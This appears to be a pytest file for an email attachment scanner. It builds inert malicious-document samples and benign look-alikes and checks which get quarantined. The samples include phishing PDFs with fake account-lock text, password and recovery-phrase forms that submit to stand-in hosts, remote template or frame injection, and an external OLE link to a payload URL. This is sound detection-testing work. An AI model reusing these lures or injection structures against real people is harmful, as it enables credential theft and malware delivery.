"""Maldoc techniques of issue 11 ("malicious: 100 % quarantined or rejected") through the whole scan, on crafted
variants of each, and the benign look-alikes that must not be stopped.

Every sample is built here and inert: ActiveMime blobs wrap no VBA project, links go to ``.example`` hosts, the
one Excel 4 workbook is oletools' harmless ``excel4_sample_macro.xls`` (tests/data).

- Word 2003 XML (WordprocessingML) or flat OPC named ``.doc`` (the MacroMilter evasion): with a VBA project
  (an ActiveMime part under any ``*.mso`` name, ``w:macrosPresent="yes"``) it is conclusive; the carrier with
  its macro part stripped (a page with nothing on it) is two strong signs, the disguise and the blank page.
- PDF credential lures dressed as a security alert: the sign-in record (IP address, device, country) next to
  the locked-account link.
- Excel 4 macros with Auto_Open in BIFF8, a remote frame in webSettings.xml.rels, an OLE object linked to http.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib
from xml.sax.saxutils import quoteattr

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from coinguard.config import parse_config
from coinguard.findings import Verdict
from coinguard.scan import ScanContext, scan_message

from helpers import DATA, make_message, zip_bytes

CONFIG = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.05\n')
STOPPED = ("malicious", "quarantine")


def scan(name: str, data: bytes, body: str = "Hello,\nplease find the document attached.\nRegards\n") -> Verdict:
    message = make_message(subject="Documents", body=body, attachments=[(name, data, "application/octet-stream")])
    return scan_message(message, ScanContext(config=CONFIG))


def outcome(verdict: Verdict) -> tuple[str, str]:
    return str(verdict.verdict), str(verdict.action)


def found(verdict: Verdict) -> set[str]:
    return {f.code for f in verdict.findings if (f.score or 0) > 0}


# -- Word 2003 XML named .doc ----------------------------------------------------------------------------------
W = b'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"'


def wordml(body: bytes, *, macros: bytes = b"no", supp: bytes = b"") -> bytes:
    """A Word 2003 XML document as Word writes it (properties, fonts, docPr), with ``body`` inside ``w:body``."""
    return (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
            b"<w:wordDocument " + W + b' xmlns:v="urn:schemas-microsoft-com:vml" '
            b'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:wx="http://schemas.microsoft.com/office/word/'
            b'2003/auxHint" w:macrosPresent="' + macros + b'" w:embeddedObjPresent="no" w:ocxPresent="no" '
            b'xml:space="preserve"><o:DocumentProperties><o:Author>a</o:Author><o:Pages>1</o:Pages>'
            b"<o:Version>11.0000</o:Version></o:DocumentProperties><w:fonts><w:defaultFonts w:ascii=\"Times New "
            b'Roman"/></w:fonts>' + supp + b'<w:docPr><w:view w:val="print"/><w:attachedTemplate w:val=""/>'
            b"</w:docPr><w:body><wx:sect>" + body + b"<w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/></w:sectPr>"
            b"</wx:sect></w:body></w:wordDocument>")


def para(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>"


def activemime(payload: bytes) -> bytes:
    """An ActiveMime (MSO) container as Word keeps a VBA project in: header, data offset, zlib (here inert)."""
    return b"ActiveMime".ljust(0x1E, b"\x00") + struct.pack("<H", 0x32 - 46) + b"\x00" * 0x12 + zlib.compress(payload)


def supp_data(name: bytes, blob: bytes, *, wrap: int = 76) -> bytes:
    encoded = base64.b64encode(blob)
    lines = b"\n".join(encoded[i:i + wrap] for i in range(0, len(encoded), wrap))
    return b'<w:docSuppData><w:binData w:name="' + name + b'">' + lines + b"</w:binData></w:docSuppData>"


INERT_PROJECT = activemime(b"\xd0\xcf\x11\xe0 inert: no VBA project")
FLAT_OPC_BLANK = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
                  b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
                  b'<pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-'
                  b'officedocument.wordprocessingml.document.main+xml"><pkg:xmlData><w:document xmlns:w="http://'
                  b'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t xml:space="preserve">'
                  b"   </w:t></w:r></w:p></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>")


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        # the VBA project's ActiveMime part under Word's own random name (not editdata.mso)
        ("rechnung-postmaster 789.doc", wordml(para(b"   "), macros=b"yes",
                                               supp=supp_data(b"LIXTv5eCGn0A607MNBDivMK.mso", INERT_PROJECT)),
         "office.disguised_active"),
        # the same part with the flag left at "no" and its base64 wrapped after 8 characters (the "ActiveMime"
        # header's base64 no longer reads in one piece): the part's name still says what it is
        ("invoice.doc", wordml(para(b"Invoice 4711"), supp=supp_data(b"x9.mso", INERT_PROJECT, wrap=8)),
         "office.disguised_active"),
        # the flag alone: the project itself was stripped, the document still says it has one
        ("Rechnung.doc", wordml(para(b"Rechnung"), macros=b"yes"), "office.disguised_active"),
        # the defanged carrier: macro part and flag gone, nothing left on the page (MacroMilter's corpus copy)
        ("rechnung.doc", wordml(para(b"    ") + b"<w:p/><w:p/>" + para(b"   ")), "office.disguised_blank"),
        ("scan_0032.doc", wordml(b""), "office.disguised_blank"),
        ("order.doc", wordml(b"<w:tbl><w:tr><w:tc><w:p/></w:tc><w:tc>" + para(b" \t ") + b"</w:tc></w:tr></w:tbl>"),
         "office.disguised_blank"),
        ("payment.doc", FLAT_OPC_BLANK, "office.disguised_blank"),
    ],
)
def test_disguised_word_xml_carriers_are_quarantined(name: str, data: bytes, code: str) -> None:
    verdict = scan(name, data)
    assert code in found(verdict), verdict.findings
    assert "office.disguised_xml" in found(verdict)
    assert outcome(verdict) == STOPPED, verdict.basis


@pytest.mark.parametrize(
    ("name", "data"),
    [
        # what Word's "Save as XML" writes: a real export keeps its .xml name
        ("report.xml", wordml(para(b"Quarterly report") + para(b"Revenue grew 4 %."))),
        ("minutes.xml", wordml(para(b"Minutes of the meeting"))),
        # a blank page under its own name is no carrier
        ("blank.xml", wordml(para(b"  "))),
        # an Excel 2003 XML statement exported as .xls (the format holds no VBA project)
        ("statement.xls", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns:ss="urn:'
                          b'schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table><Row><Cell>'
                          b"<Data ss:Type=\"String\"></Data></Cell></Row></Table></Worksheet></Workbook>"),
    ],
)
def test_benign_word_xml_stays_clean(name: str, data: bytes) -> None:
    verdict = scan(name, data)
    assert outcome(verdict) == ("clean", "accept"), verdict.findings


@pytest.mark.parametrize(
    "data",
    [
        # a generated report renamed .doc: the disguise only (tagged, delivered)
        wordml(para(b"Rechnung Nr. 4711") + para(b"Betrag: 120,00 EUR")),
        # a page with only a picture, a page with only a field, text only in a tracked deletion
        wordml(b'<w:p><w:r><w:pict><v:shape><v:imagedata src="wordml://01.png"/></v:shape></w:pict></w:r></w:p>'),
        wordml(b'<w:p><w:fldSimple w:instr=" DATE "><w:r><w:t> </w:t></w:r></w:fldSimple></w:p>'),
        wordml(b"<w:p><w:r><w:delText>Entwurf</w:delText></w:r></w:p>"),
    ],
)
def test_disguised_word_xml_with_content_and_no_macros_is_only_tagged(data: bytes) -> None:
    verdict = scan("rechnung.doc", data)
    assert found(verdict) == {"office.disguised_xml"}, verdict.findings
    assert outcome(verdict) == ("suspicious", "tag")


# -- PDF credential lures ---------------------------------------------------------------------------------------
def pdf(lines: list[str], links: list[str], *, fields: list[str] | None = None, password: bool = False,
        submit: str = "", js_submit: str = "") -> bytes:
    """A one-page PDF with Helvetica text lines, a button-sized /Link per URL and optional AcroForm text fields
    (``password``: the first one flagged as a password field) with a submit button (a SubmitForm action to
    ``submit``, or JavaScript ``this.submitForm`` to ``js_submit``)."""
    w = PdfWriter()
    page = w.add_blank_page(612, 792)
    content = StreamObject()
    content.set_data(" ".join(f"BT /F1 11 Tf 72 {720 - 15 * i} Td ({line}) Tj ET" for i, line in enumerate(lines))
                     .encode("latin-1"))
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): w._add_object(font)})})
    page[NameObject("/Contents")] = w._add_object(content)
    annots = []
    for n, url in enumerate(links):
        uri = DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(url)})
        link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                                 NameObject("/A"): uri,
                                 NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (200, 300 - 50 * n,
                                                                                          400, 330 - 50 * n))})
        annots.append(w._add_object(link))
    widgets = []
    for n, field in enumerate(fields or []):
        widget = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                   NameObject("/Subtype"): NameObject("/Widget"),
                                   NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject(field),
                                   NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (300, 500 - 30 * n,
                                                                                            500, 520 - 30 * n))})
        if password and n == 0:
            widget[NameObject("/Ff")] = NumberObject(1 << 13)
        widgets.append(w._add_object(widget))
    if submit or js_submit:
        act = (DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): DictionaryObject(
                   {NameObject("/FS"): NameObject("/URL"), NameObject("/F"): TextStringObject(submit)})})
               if submit else
               DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                 NameObject("/JS"): TextStringObject(f'this.submitForm({{cURL: "{js_submit}"}});')}))
        button = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                   NameObject("/Subtype"): NameObject("/Widget"), NameObject("/FT"): NameObject("/Btn"),
                                   NameObject("/Ff"): NumberObject(1 << 16), NameObject("/T"): TextStringObject("send"),
                                   NameObject("/A"): act,
                                   NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (300, 100, 400, 130))})
        widgets.append(w._add_object(button))
    page[NameObject("/Annots")] = ArrayObject(annots + widgets)
    if widgets:
        w._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject(widgets)})
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


SIGNIN_ALERTS = [
    # the 16Shop page (English): the sign-in record, the lock, the "secure my account" button, the deadline
    ["Dear Customer,", "For your security your Apple ID has been locked due to unusual activity.",
     "Login details:", "Operating System : Windows 10", "Country : Belgium", "IP Address : 93.188.160.176",
     "Sign in and verify your account to unlock it. This link expires in 12 hours.", "SECURE MY ACCOUNT"],
    # Spanish
    ["Estimado cliente,", "su cuenta ha sido suspendida por actividad inusual.", "Dispositivo: iPhone",
     "Pais: Rusia", "Direccion IP: 185.220.101.4", "Confirm your account: sign in to verify your identity."],
    # French, the fields on one line
    ["Votre compte est verrouille (locked).", "Appareil: Android  Pays: Nigeria  Adresse IP: 102.89.3.17",
     "Log in to verify your account and unlock access."],
    # a wallet notice
    ["Your wallet account is restricted after a suspicious sign-in.", "Browser: Chrome 119  Location: Lagos",
     "IP: 197.210.54.8", "Verify your recovery phrase to unlock the wallet."],
]


@pytest.mark.parametrize("lines", SIGNIN_ALERTS)
def test_pdf_security_alert_lures_are_quarantined(lines: list[str]) -> None:
    verdict = scan("Account-Notice.pdf", pdf(lines, ["https://secure-appleid.account-verify.example/?id=7"]))
    assert {"pdf.credential_lure", "pdf.signin_alert"} <= found(verdict), verdict.findings
    assert outcome(verdict) == STOPPED, verdict.basis


@pytest.mark.parametrize(
    ("lines", "links", "fields", "worst"),
    [
        # an invoice with a "pay online" link
        (["Invoice 2026-114", "Amount due: 240.00 EUR, due 2026-12-15.", "Pay online at our portal."],
         ["https://pay.example.com/i/2026-114"], None, "clean"),
        # a government form with fields (name, address, tax number) and the authority's site
        (["Application for a residence permit", "Name:", "Address:", "Tax number:", "Return to the city office."],
         ["https://www.city.example.gov/forms"], ["name", "address", "tax_number"], "clean"),
        # a network report that lists sign-ins with IPs and devices, no lock and no account link to follow
        (["VPN access report November", "IP: 10.1.2.3  Device: laptop-17  Location: Berlin office",
          "IP: 10.1.2.9  Device: laptop-22  Location: Hamburg office"], ["https://intranet.example.com/vpn"], None,
         "clean"),
        # a real account notice with pressure but no sign-in record: the credential lure alone is strong, tagged
        (["Your password expires in 5 days.", "Log in to your account to choose a new one."],
         ["https://portal.example.com/login"], None, "suspicious"),
    ],
)
def test_benign_pdfs_with_links_or_forms_are_not_stopped(lines: list[str], links: list[str],
                                                         fields: list[str] | None, worst: str) -> None:
    verdict = scan("document.pdf", pdf(lines, links, fields=fields))
    assert "pdf.signin_alert" not in found(verdict)
    assert str(verdict.verdict) == worst, verdict.findings
    assert str(verdict.action) != "quarantine"


@pytest.mark.parametrize(
    ("lines", "kwargs", "basis"),
    [
        # a sign-in form in the PDF itself: the password field (flagged so) is sent to the kit's server
        (["Your account has been suspended.", "Sign in below to verify your account."],
         {"fields": ["email", "pw"], "password": True, "submit": "https://login-verify.example/post.php"},
         "two strong"),
        # the same with the field named "Passwort", sent by JavaScript
        (["Ihr Konto wurde gesperrt.", "Bitte anmelden und bestätigen."],
         {"fields": ["Benutzer", "Passwort"], "js_submit": "https://konto-check.example/p"}, "two strong"),
        # a wallet "restore" form: the recovery phrase goes to a web address (conclusive alone)
        (["Wallet synchronisation", "Enter your words below."],
         {"fields": ["Recovery phrase (12 words)"], "submit": "https://wallet-sync.example/r"}, "conclusive"),
    ],
)
def test_pdf_credential_forms_are_quarantined(lines: list[str], kwargs: dict[str, object], basis: str) -> None:
    verdict = scan("form.pdf", pdf(lines, [], **kwargs))  # type: ignore[arg-type]
    assert "pdf.credential_form" in found(verdict), verdict.findings
    assert outcome(verdict) == STOPPED and verdict.basis.startswith(basis), verdict.basis


@pytest.mark.parametrize(
    "kwargs",
    [
        # a tax office's e-form: fields and a submit button to its server, no secret asked
        {"fields": ["name", "tax_number", "iban"], "submit": "https://forms.tax.example.gov/submit"},
        # a form that asks for a passport number and a boarding pass (no password)
        {"fields": ["passport_no", "boarding pass"], "submit": "https://visa.example.gov/apply"},
        # a password field in a form that sends nothing (filled in and printed)
        {"fields": ["new password"], "password": True},
    ],
)
def test_benign_pdf_forms_stay_clean(kwargs: dict[str, object]) -> None:
    lines = ["Application form", "Please fill in all fields."]
    verdict = scan("form.pdf", pdf(lines, [], **kwargs))  # type: ignore[arg-type]
    assert outcome(verdict) == ("clean", "accept"), verdict.findings


@pytest.mark.parametrize(
    ("lines", "stopped"),
    [
        # a brand claim: the lure names a wallet and links elsewhere (crypto theme + the strong lure)
        (["Your MetaMask wallet has been locked due to unusual activity.", "Sign in to verify your wallet."], True),
        # no brand, no sign-in record: the credential lure alone is tagged
        (["Your account has been locked due to unusual activity.", "Sign in to verify your identity."], False),
    ],
)
def test_pdf_credential_lure_with_a_brand_claim(lines: list[str], stopped: bool) -> None:
    verdict = scan("notice.pdf", pdf(lines, ["https://secure-login.example/verify"]))
    assert "pdf.credential_lure" in found(verdict)
    assert (outcome(verdict) == STOPPED) is stopped, verdict.basis
    assert str(verdict.verdict) != "clean"


# -- the other techniques reach quarantine -----------------------------------------------------------
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with(part: str, kind: str, target: str) -> bytes:
    """A minimal .docx whose ``part`` relationships file holds one external relationship of ``kind``."""
    rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId9" Type="{REL}/{kind}" Target={quoteattr(target)} TargetMode="External"/>'
            f"</Relationships>").encode()
    return zip_bytes({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"/>',
        "_rels/.rels": (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        f'relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"'
                        f"/></Relationships>").encode(),
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                             b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Offer</w:t></w:r></w:p></w:body>'
                             b"</w:document>",
        part: rels,
    })


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        # oletools' harmless Excel 4 macro sheet in BIFF8 with its Auto_Open name
        ("prices.xls", (DATA / "oletools_excel4_sample_macro.xls").read_bytes(), "office.xlm.autoexec"),
        # frame injection: webSettings.xml.rels loads a remote frame when the document opens
        ("offer.docx", docx_with("word/_rels/webSettings.xml.rels", "frame", "http://x.example/frame.html"),
         "ooxml.remote_template"),
        # template injection through settings.xml.rels
        ("offer.docx", docx_with("word/_rels/settings.xml.rels", "attachedTemplate", "https://x.example/t.dotm"),
         "ooxml.remote_template"),
        # an OLE object linked to an http URL (CVE-2017-0199 style)
        ("offer.docx", docx_with("word/_rels/document.xml.rels", "oleObject", "http://x.example/payload.rtf"),
         "ooxml.external_ole"),
    ],
)
def test_other_maldoc_techniques_are_quarantined(name: str, data: bytes, code: str) -> None:
    verdict = scan(name, data)
    assert code in found(verdict), verdict.findings
    assert outcome(verdict) == STOPPED, verdict.basis
